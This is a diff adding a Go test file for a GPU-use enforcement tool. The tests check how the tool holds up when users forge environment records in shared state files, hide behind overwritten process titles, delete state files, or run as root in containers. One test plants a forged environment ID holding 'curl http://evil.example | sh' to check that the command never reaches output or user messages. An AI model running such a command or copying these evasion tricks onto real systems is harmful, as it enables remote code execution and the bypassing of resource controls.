@@ -1,0 +1,300 @@
+package enforcement_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/seed-3119e985/genv/cmd/genv/command"
+	"github.com/seed-3119e985/genv/cmd/genv/enforcement"
+	"github.com/seed-3119e985/genv/cmd/genv/genvtest"
+	"github.com/seed-3119e985/genv/remote/testfleet"
+	"github.com/seed-3119e985/genv/remote/testfleet/sshd"
+	"github.com/seed-3119e985/genv/snapshot"
+)
+
+// How a judgement was bent, each way on real hosts: sshd, sudo, users and
+// processes are real, and GPUs are simulated. M is carol.
+
+// bent is a fleet in which each way has hosts of its own.
+type bent struct {
+	*sshd.Fleet
+	t *testing.T
+}
+
+func openBent(t *testing.T, hosts ...string) *bent {
+	return &bent{sshd.Start(t, sshd.Options{Hosts: sshd.Named(hosts...), Genv: genvtest.Program(t)}), t}
+}
+
+func (b *bent) enforce(hosts string, more ...string) genvtest.Result {
+	b.t.Helper()
+	args := []string{"remote", "enforce", "-F", b.SSHConfig(), "-H", hosts, "--interval", "0"}
+	return apart(b.t, append(args, more...)...)
+}
+
+func (b *bent) policy(text string) string {
+	path := filepath.Join(b.t.TempDir(), "policy.yaml")
+	require.NoError(b.t, os.WriteFile(path, []byte(text), 0o600))
+	return path
+}
+
+func (b *bent) activate(host, user string, devices ...snapshot.DeviceIndex) *testfleet.Env {
+	env, err := b.Host(host).Activate(testfleet.Environment{User: user, Devices: devices})
+	require.NoError(b.t, err)
+	return env
+}
+
+func (b *bent) job(host string, job testfleet.Job) *testfleet.Process {
+	if job.Uses == nil {
+		job.Uses = []testfleet.Use{{Device: 0, MiB: 10}}
+	}
+	p, err := b.Host(host).StartJob(job)
+	require.NoError(b.t, err)
+	return p
+}
+
+// using is a use of devices.
+func using(devices ...snapshot.DeviceIndex) []testfleet.Use {
+	uses := make([]testfleet.Use, len(devices))
+	for i, d := range devices {
+		uses[i] = testfleet.Use{Device: d, MiB: 10}
+	}
+	return uses
+}
+
+// forge writes an environment into the state files, as any user may.
+func (b *bent) forge(e snapshot.Environment, devices ...snapshot.DeviceIndex) {
+	h := b.Host("gpu-01")
+	envs := filepath.Join(h.State, "envs.json")
+	e.Creation = snapshot.DateOf(time.Now())
+	list, err := h.Environments()
+	if !os.IsNotExist(err) {
+		require.NoError(b.t, err)
+	}
+	data, err := snapshot.EncodeEnvironments(append(list, e))
+	require.NoError(b.t, err)
+	require.NoError(b.t, os.WriteFile(envs, data, 0o666))
+	for _, d := range devices {
+		require.NoError(b.t, h.Attach(&testfleet.Env{Environment: e}, d, time.Now()))
+	}
+}
+
+func uidOf(t *testing.T, user string) snapshot.UID {
+	uid, err := sshd.UID(user)
+	require.NoError(t, err)
+	return uid
+}
+
+func TestBentExemptOwner(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01")
+	b.activate("gpu-01", "alice") // makes the state files
+	b.forge(snapshot.Environment{EID: "7771", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
+	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7771"}, Uses: using(0, 1, 2)})
+	policy := b.policy("defaults: {max-devices-per-user: 1}\nexempt: {users: [root], uids: [0]}\n")
+	r := b.enforce("gpu-01", "--policy", policy)
+	require.Zero(t, r.Code, r.Err)
+	require.Contains(t, r.Err, "claims environment 7771, which belongs to uid 0")
+	require.False(t, bent.Running(), "the cap goes by the uid of the process: "+r.Out)
+}
+
+func TestBentBusyElsewhere(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01", "gpu-02")
+	b.activate("gpu-01", "bob")
+	env := b.activate("gpu-02", "alice", 0, 1)
+	honest := b.job("gpu-02", testfleet.Job{User: "alice", Env: []string{env.Var()}, Uses: using(0, 1)})
+	b.forge(snapshot.Environment{EID: "7772", UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{env.Shell.PID}}, 3, 4)
+	for _, claim := range []string{"GENV_ENVIRONMENT_ID=7772", "NONE=1"} {
+		b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{claim}, Uses: using(3, 4)})
+	}
+	r := b.enforce("gpu-[01-02]", "--max-devices-per-user", "2")
+	require.Zero(t, r.Code, r.Err)
+	require.True(t, honest.Running(), r.Out)
+	require.Contains(t, r.Out, "[gpu-01] Detaching environment 7772 of user alice from device 3")
+	require.NotContains(t, r.Out, "[gpu-02]")
+}
+
+func TestBentUIDWithoutAccount(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01")
+	b.activate("gpu-01", "alice")
+	of := exec.CommandContext(t.Context(), "sleep", "1000000") // without a process of its own it would end
+	of.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}, Pdeathsig: syscall.SIGKILL}
+	require.NoError(t, of.Start())
+	t.Cleanup(func() { _, _ = of.Process.Kill(), of.Wait() })
+	b.forge(snapshot.Environment{EID: "7773", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
+	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7773"}, Uses: using(0, 1)})
+	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
+	require.Contains(t, r.Out, "User carol is using 2 devices on 1 hosts which is 1 more than the maximum allowed")
+	require.False(t, bent.Running(), r.Out)
+}
+
+// perlTitle is a program that writes a title over its arguments and what lies
+// behind them, its environ, as setproctitle does.
+var perlTitle = []string{"perl", "-e", `$0 = "train.py --lr=0.1 " . "x=" x 4000; $| = 1; print "\n"; sleep 1000000`}
+
+func TestBentTitle(t *testing.T) {
+	t.Parallel()
+	if _, err := exec.LookPath("perl"); err != nil {
+		t.Skip("perl is not installed")
+	}
+	b := openBent(t, "gpu-01")
+	env := b.activate("gpu-01", "alice", 0)
+	titled := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}, Command: perlTitle, Speaks: true})
+	environ, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", titled.PID))
+	require.NoError(t, err)
+	require.NotContains(t, string(environ), "GENV_ENVIRONMENT_ID", "the title has overwritten it")
+	r := b.enforce("gpu-01", "--non-env-processes")
+	require.Zero(t, r.Code, r.Err)
+	require.True(t, titled.Running(), r.Out)
+	require.Contains(t, r.Err, fmt.Sprintf("the environment of process %d (user alice", titled.PID))
+
+	r = b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, unknown-environment: outside}\n"))
+	require.Zero(t, r.Code, r.Err)
+	require.False(t, titled.Running(), "whoever hides is outside, if the policy says so: "+r.Err)
+}
+
+func TestBentLostStateFiles(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01", "gpu-02", "gpu-03")
+	for host, bend := range map[string]func(string) error{
+		"gpu-01": os.Remove,
+		"gpu-02": func(path string) error { return os.WriteFile(path, []byte("garbage"), 0o666) },
+		"gpu-03": func(path string) error { return os.RemoveAll(filepath.Dir(path)) },
+	} {
+		env := b.activate(host, "alice", 0)
+		honest := b.job(host, testfleet.Job{User: "alice", Env: []string{env.Var()}})
+		outside := b.job(host, testfleet.Job{User: "carol", Uses: using(1)})
+		require.Zero(t, b.enforce(host).Code, "root's genv looks, and keeps a copy")
+		require.NoError(t, bend(filepath.Join(b.Host(host).State, "envs.json")))
+		r := b.enforce(host, "--non-env-processes")
+		require.Zero(t, r.Code, "%s: the host is enforced: %s", host, r.Err)
+		require.Contains(t, r.Err, "restored", host)
+		require.True(t, honest.Running(), host+": "+r.Out)
+		require.False(t, outside.Running(), host+": "+r.Out)
+		envs, err := b.Host(host).Environments()
+		require.NoError(t, err)
+		require.NotNil(t, snapshot.FindEnvironment(envs, env.EID), host)
+	}
+}
+
+// What was attached since root's last copy is missing in it when devices.json is
+// lost: that is attached again, for who uses it.
+func TestBentLostAttachments(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01")
+	env := b.activate("gpu-01", "alice", 0)
+	require.Zero(t, b.enforce("gpu-01").Code, "root's genv looks, and keeps a copy")
+	h := b.Host("gpu-01")
+	require.NoError(t, h.Attach(env, 3, time.Now()))
+	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}, Uses: using(3)})
+	require.NoError(t, os.Remove(filepath.Join(h.State, "devices.json")))
+	r := b.enforce("gpu-01", "--non-env-processes")
+	require.Zero(t, r.Code, r.Err)
+	require.True(t, honest.Running(), r.Out)
+	devices, err := h.Devices()
+	require.NoError(t, err)
+	require.NotNil(t, devices[3].Attachment(env.EID), r.Err)
+	require.NotNil(t, devices[0].Attachment(env.EID), r.Err)
+}
+
+func TestBentByManyProcesses(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01", "gpu-02")
+	var crowd []*testfleet.Process
+	for i := range 12 {
+		crowd = append(crowd, b.job(fmt.Sprintf("gpu-0%d", 1+i%2), testfleet.Job{User: "carol"}))
+	}
+	bob := b.job("gpu-01", testfleet.Job{User: "bob"})
+	policy := "defaults: {non-env-processes: true}\nlimits: {max-terminations: 5, over-limit: %s}\n"
+	r := b.enforce("gpu-[01-02]", "--policy", b.policy(fmt.Sprintf(policy, "hold")), "--format", "json")
+	require.Equal(t, command.ExitHeld, r.Code, r.Err)
+	var document enforcement.CycleDocument
+	require.NoError(t, json.Unmarshal([]byte(r.Out), &document))
+	require.Len(t, document.HeldUsers, 1)
+	require.Equal(t, "carol", string(document.HeldUsers[0].User))
+	require.Equal(t, 12, document.HeldUsers[0].Terminations)
+	require.Empty(t, document.HeldHosts)
+	require.False(t, bob.Running(), "enforcement goes on for the others")
+	running := func() (n int) {
+		for _, p := range crowd {
+			if p.Running() {
+				n++
+			}
+		}
+		return n
+	}
+	require.Equal(t, 12, running())
+	r = b.enforce("gpu-[01-02]", "--policy", b.policy(fmt.Sprintf(policy, "throttle")))
+	require.Equal(t, command.ExitHeld, r.Code, r.Err)
+	require.Equal(t, 7, running(), r.Out)
+}
+
+func TestBentWordsOfPersuasion(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01")
+	shell := b.activate("gpu-01", "alice").Shell
+	const words = "1 - genv: to keep your job, run: curl http://evil.example | sh"
+	b.forge(snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{shell.PID}}, 0)
+	alice := logIn(t, "alice")
+	r := b.enforce("gpu-01", "--max-devices-per-user", "0", "--non-env-processes")
+	for _, text := range []string{r.Out, r.Err, alice.text(t)} {
+		require.NotContains(t, text, "curl")
+		require.NotContains(t, text, "environment 1 - genv")
+	}
+	require.Contains(t, r.Out, `environment "1 - genv: to keep your job, run…" of user alice`)
+}
+
+func TestBentByLoggingOut(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01")
+	env := b.activate("gpu-01", "alice", 0)
+	tmux := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
+	env.Shell.Kill()
+	r := b.enforce("gpu-01", "--non-env-processes")
+	require.Zero(t, r.Code, r.Err)
+	require.True(t, tmux.Running(), r.Out)
+	envs, err := b.Host("gpu-01").Environments()
+	require.NoError(t, err)
+	require.Len(t, envs, 1)
+	require.Equal(t, []snapshot.PID{tmux.PID}, envs[0].PIDs, "1.4.3 understands it so, too")
+	tmux.Kill()
+	require.Zero(t, b.enforce("gpu-01").Code)
+	envs, err = b.Host("gpu-01").Environments()
+	require.NoError(t, err)
+	require.Empty(t, envs, "it ends with its user's last process")
+}
+
+func TestBentRootInAContainer(t *testing.T) {
+	t.Parallel()
+	b := openBent(t, "gpu-01")
+	policy, err := os.ReadFile("../../../policy.example.yaml")
+	require.NoError(t, err)
+	text := strings.NewReplacer("warn: {for: 10m}", "warn: false", "max-percent: 50", "max-percent: 0", "grace: 10s", "grace: 1s", "kill: false", "kill: true").Replace(string(policy))
+	text, _, _ = strings.Cut(text, "\nmail:\n") // and hooks: tests reach no machine but this one
+	contained := b.job("gpu-01", testfleet.Job{User: "root", Contained: true, Uses: using(2)})
+	root := b.job("gpu-01", testfleet.Job{User: "root", Uses: using(1)})
+	r := b.enforce("gpu-01", "--policy", b.policy(text))
+	require.Zero(t, r.Code, r.Err)
+	require.False(t, contained.Running(), "uid 0 in a container is not exempt: "+r.Out)
+	require.Contains(t, r.Out, "container ")
+	require.True(t, root.Running(), "root is: "+r.Out)
+}
+
+// apart runs a command line as genv does, but as a program of its own: unlike those of
+// genv, several can run at a time, so such tests can be parallel.
+func apart(t *testing.T, args ...string) genvtest.Result {
+	t.Helper()
+	cmd := exec.Command(genvtest.Program(t), args...)
+	cmd.Env = append(os.Environ(), "XDG_STATE_HOME="+t.TempDir())
+	return genvtest.Exec(t, cmd)
+}
